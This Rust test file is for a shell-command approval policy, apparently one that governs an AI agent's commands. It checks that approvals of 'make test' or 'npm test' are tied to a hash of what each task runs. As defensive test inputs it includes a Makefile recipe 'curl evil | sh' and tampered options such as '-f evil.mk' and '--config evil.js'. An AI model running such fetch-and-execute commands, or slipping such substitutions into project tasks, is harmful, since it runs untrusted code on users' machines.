//! Rules that hold what the tasks of a project run.

use super::*;
use crate::project_task::tests::Project;
use crate::{Breadth, Scope, TaskFacts, TaskState, choices, rule_from_approval};

const PACKAGE: &str = r#"{"scripts":{"test":"vitest run"}}"#;

/// A call of Ann's shell, in a project with these files.
fn task(line: &str, files: &[(&str, &str)]) -> Request {
    let project = Project::of(files);
    let request = shell(line);
    let request = Request { project: Some(Project::ROOT.into()), cwd: Some(Project::ROOT.into()), ..request };
    let questions = request.task_questions().into_iter();
    let tasks = questions.map(|question| {
        let folder = question.folder.trim_start_matches("./").trim_matches('.');
        let folder = format!("{}/{folder}", Project::ROOT);
        let state = match project.define(&question.call, folder.trim_end_matches('/')) {
            Ok(definition) => TaskState::Defined(definition),
            Err(why) => TaskState::Unknown(why),
        };
        (question, state)
    });
    Request { tasks: tasks.collect(), ..request }
}

/// The rules that the answer "in this project" to `request` writes.
fn answer(request: &Request, breadth: Breadth) -> String {
    let decision = Policy::from_preset(Preset::Strict).decide(request, at(0));
    rule_from_approval(request, &decision, breadth, Scope::Project).unwrap().toml
}

fn strictly(rules: &str, request: &Request) -> PolicyDecision {
    policy(&format!("version = 1\npreset = \"strict\"\n{rules}")).decide(request, at(0))
}

#[test]
fn an_answer_in_this_project_holds_while_the_task_runs_what_was_approved() {
    let makefile = |text: &str| format!("test:\n\t{text}\n");
    let (before, after) = (makefile("./run-tests"), makefile("curl evil | sh"));
    let asked = task("make test", &[("Makefile", &before)]);
    let attack = task("make test", &[("Makefile", &after)]);
    let rule = answer(&asked, Breadth::Exact);

    // Without what the task runs, the rule is about the words, and the attack passes.
    let words: String =
        rule.lines().filter(|line| !line.starts_with("tasks = ")).map(|line| format!("{line}\n")).collect();
    assert_ne!(words, rule);
    assert_eq!(strictly(&words, &attack).action, Action::Allow);

    assert_eq!(strictly(&rule, &asked).action, Action::Allow, "{rule}");
    let decision = strictly(&rule, &attack);
    assert_eq!(decision.action, Action::Ask, "{rule}");
    assert!(
        decision.why.ends_with("does not hold: `make test` runs something else than was approved."),
        "{}",
        decision.why
    );
    let changed = decision.changed_tasks(&attack);
    assert_eq!(changed.len(), 1);
    assert!(changed[0].approved.text.contains("./run-tests"), "{changed:?}");
    assert_eq!(changed[0].approved.file, "Makefile");
    assert!(matches!(&changed[0].now, TaskState::Defined(now) if now.text().contains("curl evil")), "{changed:?}");
}

/// What stands in people's policies holds under every later version as well.
#[test]
fn the_rule_is_the_one_that_the_documents_show() {
    let rule = answer(&task("make test", &[("Makefile", "test:\n\t./run-tests\n")]), Breadth::Prefix);
    let tasks = rule.lines().last().unwrap();
    let digest = "6dc696ca6eaf0b99b3195cb6a7f52426b4bffb957b3e6a34d17e33f5d6a32c51";
    assert_eq!(
        tasks,
        format!(
            r#"tasks = [{{ call = "make test", file = "Makefile", sha256 = "{digest}", text = "test:\n  test:\n  \t./run-tests\n" }}]"#
        )
    );
    let shown = include_str!("../../../../../docs/policy.md");
    assert!(shown.contains(tasks.trim_start_matches("tasks = ")), "{rule}");
}

#[test]
fn what_cannot_be_told_is_asked_about() {
    let asked = task("make test", &[("Makefile", "test:\n\t./run-tests\n")]);
    let unseen = Request { tasks: TaskFacts::default(), ..asked.clone() };
    for breadth in [Breadth::Exact, Breadth::Prefix] {
        let rule = answer(&asked, breadth);
        for files in [[("Makefile", "include x.mk\ntest:\n\t./run-tests\n")].as_slice(), &[]] {
            for line in ["make test", "make test test", "make -C sub test", "make -f evil.mk test"] {
                assert_eq!(strictly(&rule, &task(line, files)).action, Action::Ask, "{line}: {files:?}\n{rule}");
            }
        }
        // Nobody has looked.
        assert_eq!(strictly(&rule, &unseen).action, Action::Ask);
    }
    let told = |request: &Request| strictly(&answer(&asked, Breadth::Exact), request).why;
    assert!(told(&task("make test", &[("Makefile", "include x.mk\ntest:\n")])).contains("includes other files"));
    assert!(told(&unseen).contains("nobody has looked what `make test` runs"));
}

#[test]
fn one_answer_covers_the_task_with_operands_that_run_nothing() {
    let files = [("package.json", PACKAGE)];
    let rule = answer(&task("npm test -- src/a.test.ts", &files), Breadth::Prefix);
    for line in ["npm test", "npm test -- src/b.test.ts", "npm test && npm test -- src/c.test.ts"] {
        assert_eq!(strictly(&rule, &task(line, &files)).action, Action::Allow, "{line}\n{rule}");
    }
    for line in ["npm test -- --config evil.js", "npm run other", "npm test --prefix ../evil"] {
        assert_eq!(strictly(&rule, &task(line, &files)).action, Action::Ask, "{line}\n{rule}");
    }
    // Another program behind the same name reads the operands in another way; nobody who writes a rule has seen it.
    let other = [("package.json", r#"{"scripts":{"test":"node"}}"#)];
    assert_eq!(strictly(&rule, &task("npm test -- src/b.test.ts", &other)).action, Action::Ask);
    let exact = answer(&task("npm test -- a.js", &other), Breadth::Exact);
    assert_eq!(strictly(&exact, &task("npm test -- a.js", &other)).action, Action::Allow, "{exact}");
    assert_eq!(strictly(&exact, &task("npm test -- b.js", &other)).action, Action::Ask, "{exact}");
}

#[test]
fn a_whole_line_holds_what_each_of_its_tasks_runs() {
    let files = |lint: &str| format!(r#"{{"scripts":{{"test":"vitest run","lint":"{lint}"}}}}"#);
    let (before, after) = (files("eslint"), files("evil"));
    let line = "npm test > out.txt && npm run lint";
    let asked = task(line, &[("package.json", &before)]);
    let rule = answer(&asked, Breadth::Exact);
    assert!(rule.contains("command_line") && rule.matches("sha256").count() == 2, "{rule}");
    assert_eq!(strictly(&rule, &asked).action, Action::Allow, "{rule}");
    assert_eq!(strictly(&rule, &task(line, &[("package.json", &after)])).action, Action::Ask, "{rule}");
}

#[test]
fn what_a_task_runs_stands_on_one_line_whatever_it_is() {
    let makefile = "test:\n\techo '\"\\'\n\techo '[[rule]]'\n\tprintf '\u{7f}\u{1b}[31m'\n";
    let asked = task("make test", &[("Makefile", makefile)]);
    let decision = Policy::from_preset(Preset::Strict).decide(&asked, at(0));
    match rule_from_approval(&asked, &decision, Breadth::Exact, Scope::Project) {
        Some(draft) => {
            assert_eq!(draft.toml.lines().filter(|line| line.starts_with("tasks = [{ ")).count(), 1, "{}", draft.toml);
            assert_eq!(strictly(&draft.toml, &asked).action, Action::Allow, "{}", draft.toml);
        }
        None => panic!("no rule"),
    }
}

#[test]
fn an_answer_for_every_project_holds_where_the_same_file_says_the_same() {
    let asked = task("npm test", &[("package.json", PACKAGE)]);
    let decision = Policy::from_preset(Preset::Strict).decide(&asked, at(0));
    let rule = rule_from_approval(&asked, &decision, Breadth::Exact, Scope::Always).unwrap().toml;
    let moved = |request: Request| {
        let elsewhere = |file: &str| file.replace(Project::ROOT, "/srv/other");
        let tasks = request.tasks.with_texts(elsewhere);
        Request { project: Some("/srv/other".into()), cwd: Some("/srv/other".into()), tasks, ..request }
    };
    assert_eq!(strictly(&rule, &moved(asked)).action, Action::Allow, "{rule}");
    let other = task("npm test", &[("package.json", r#"{"scripts":{"test":"evil"}}"#)]);
    assert_eq!(strictly(&rule, &moved(other)).action, Action::Ask, "{rule}");
    // A file of the same text in another folder of the project is another task.
    let below = task("cd sub && npm test", &[("sub/package.json", PACKAGE)]);
    assert_eq!(strictly(&rule, &below).action, Action::Ask, "{rule}");
}

#[test]
fn the_choice_says_that_the_answer_follows_the_task() {
    let asked = task("npm test", &[("package.json", PACKAGE)]);
    let decision = Policy::from_preset(Preset::Strict).decide(&asked, at(0));
    let offered = choices(&asked, &decision);
    assert!(offered.iter().any(|choice| choice.scope == Scope::Project));
    for choice in offered.iter().filter(|choice| matches!(choice.scope, Scope::Project | Scope::Always)) {
        assert!(choice.remembers.ends_with("while the task runs what it runs now"), "{}", choice.remembers);
        assert!(choice.rule.as_ref().unwrap().contains("text = \"test: vitest run\\n\""), "{:?}", choice.rule);
    }
}

#[test]
fn an_explanation_says_which_task_has_changed() {
    let rule = answer(&task("npm test", &[("package.json", PACKAGE)]), Breadth::Exact);
    let policy = policy(&format!("version = 1\npreset = \"strict\"\n{rule}"));
    let explanation = policy.explain(&task("npm test", &[("package.json", r#"{"scripts":{"test":"x"}}"#)]), at(0));
    let because = explanation.parts[0].considered.last().unwrap().because.as_deref();
    assert_eq!(because, Some("`npm test` runs something else than was approved"));
    assert!(explanation.why.contains("`npm test` runs something else than was approved"), "{}", explanation.why);
}

#[test]
fn tasks_stand_in_a_rule_that_allows_commands_and_in_no_other() {
    let digest = "a".repeat(64);
    let errors = |rule: &str| {
        let found = parse(&format!("version = 1\n[[rule]]\n{rule}\n")).unwrap_err();
        found.into_iter().map(|found| found.code).collect::<Vec<String>>()
    };
    let tasks = format!("tasks = [{{ call = \"make test\", sha256 = \"{digest}\" }}]");
    assert!(parse(&format!("version = 1\n[[rule]]\ncommand = \"make test\"\naction = \"allow\"\n{tasks}\n")).is_ok());
    for (rule, code) in [
        (format!("command = \"make test\"\naction = \"ask\"\n{tasks}"), "tasks_not_allowed"),
        (format!("command = \"make test\"\naction = \"confine\"\n{tasks}"), "tasks_not_allowed"),
        (format!("tool = \"shell\"\naction = \"allow\"\n{tasks}"), "tasks_without_command"),
        ("command = \"make test\"\naction = \"allow\"\ntasks = []".to_owned(), "bad_tasks"),
        ("command = \"make test\"\naction = \"allow\"\ntasks = [\"make test\"]".to_owned(), "wrong_type"),
        ("command = \"make test\"\naction = \"allow\"\ntasks = [{ call = \"make test\" }]".to_owned(), "missing_key"),
        (
            "command = \"make test\"\naction = \"allow\"\ntasks = [{ call = \"make test\", sha256 = \"AB\" }]"
                .to_owned(),
            "bad_task",
        ),
        (
            format!(
                "command = \"make test\"\naction = \"allow\"\ntasks = [{{ call = \"x\", sha256 = \"{digest}\", hash = 1 }}]"
            ),
            "unknown_key",
        ),
    ] {
        assert_eq!(errors(&rule), [format!("policy::{code}")], "{rule}");
    }
}

#[test]
fn a_person_who_changes_a_rule_keeps_what_the_task_runs() {
    let asked = task("make test", &[("Makefile", "test:\n\t./run-tests\n")]);
    let strict = Policy::from_preset(Preset::Strict);
    let draft = rule_from_approval(&asked, &strict.decide(&asked, at(0)), Breadth::Exact, Scope::Always).unwrap();
    let occasion = RuleOccasion { request: &asked, draft: &draft, in_project: false, now: at(0) };
    let text = draft.to_edit().unwrap();
    assert!(text.contains("tasks = ["), "{text}");
    assert!(strict.check_edited_rule(&text, occasion).is_ok(), "{text}");
    let without: String =
        text.lines().filter(|line| !line.starts_with("tasks")).map(|line| format!("{line}\n")).collect();
    assert_eq!(strict.check_edited_rule(&without, occasion), Err(EditedRuleError::OtherTasks));
}
